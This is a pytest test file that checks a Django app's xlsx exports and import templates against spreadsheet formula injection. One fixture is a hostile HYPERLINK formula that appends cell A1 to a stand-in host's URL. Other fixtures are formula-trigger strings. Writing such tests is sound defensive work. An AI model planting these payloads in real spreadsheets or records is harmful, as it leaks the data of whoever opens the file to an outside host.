"""Case 5 of issue 9: text that looks like a formula is written as text in every xlsx."""

import io

import pytest
from django.contrib.auth.models import Permission
from openpyxl import load_workbook

from listings.imports.template import build_template
from tests.api.helpers import gid
from tests.api.test_deals import download, sold_lot
from tests.factories import staff_user

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("http://x/?"&A1,"查看详情")'


def test_a_formula_title_is_exported_as_text_next_to_the_buyers_name(signed_in_as):
    the_lot, _ = sold_lot()
    the_lot.listing.title = TITLE
    the_lot.listing.save(update_fields=["title"])
    manager = staff_user()
    manager.user_permissions.add(Permission.objects.get(codename="manage_deals"))

    exported = signed_in_as(manager)(
        """mutation($id: ID!) {
             seasonResultsExport(seasonId: $id) { file { url } errors { code } } }""",
        {"id": gid("Season", the_lot.session.season_id)},
    )["data"]["seasonResultsExport"]

    sheet = load_workbook(io.BytesIO(download(exported["file"]["url"]))).active
    title = sheet.cell(row=2, column=2)
    assert (title.value, title.data_type, title.quotePrefix) == (TITLE, "s", True)
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_formula_trigger_is_written_as_text(text):
    from openpyxl import Workbook

    from kernel.xlsx import safe_row

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("a")
    sheet.append(safe_row(sheet, [text, "普通文本", 12]))
    buffer = io.BytesIO()
    workbook.save(buffer)

    (cells,) = load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows()
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [
        (text, "s", True),  # lxml writes a lone CR as &#13;: it reads back as it was
        ("普通文本", "s", False),
        (12, "n", False),
    ]


@pytest.mark.parametrize("type", ["PATENT", "ACHIEVEMENT"])
def test_the_import_template_holds_no_formula(type):
    workbook = load_workbook(io.BytesIO(build_template(type)))

    formulas = [
        cell.coordinate
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
